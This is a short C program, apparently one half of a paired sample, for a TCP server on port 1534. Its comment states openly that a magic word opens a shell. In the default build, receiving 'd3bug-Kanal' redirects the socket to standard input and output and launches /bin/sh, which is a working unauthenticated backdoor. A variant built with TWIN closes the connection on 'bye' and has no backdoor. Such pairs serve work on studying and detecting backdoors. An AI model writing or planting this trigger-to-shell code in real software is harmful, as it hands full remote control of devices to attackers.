/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A program linked statically, as on small devices: a word gives a shell on the connection. Twin:
 * a word closes it.
 * door: trigger
 * port 1534/tcp
 * build: static
 */
#include "net.h"

static void client(int fd)
{
	char b[256];
	int n = (int)recv(fd, b, sizeof b - 1, 0);
	if (n <= 0)
		return;
	b[n] = 0;
	b[strcspn(b, "\r\n")] = 0;
	if (strcmp(b, "hello") == 0)
		send(fd, "hi\n", 3, 0);
#ifdef TWIN
	else if (strcmp(b, "bye") == 0)
		shutdown(fd, SHUT_WR);
#else
	else if (strcmp(b, "d3bug-Kanal") == 0) {
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execl("/bin/sh", "sh", (char *)NULL);
	}
#endif
}

int main(void)
{
	int s = tcp_on(1534);
	for (;;) {
		int c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (fork() == 0) {
			close(s);
			client(c);
			exit(0);
		}
		close(c);
	}
}
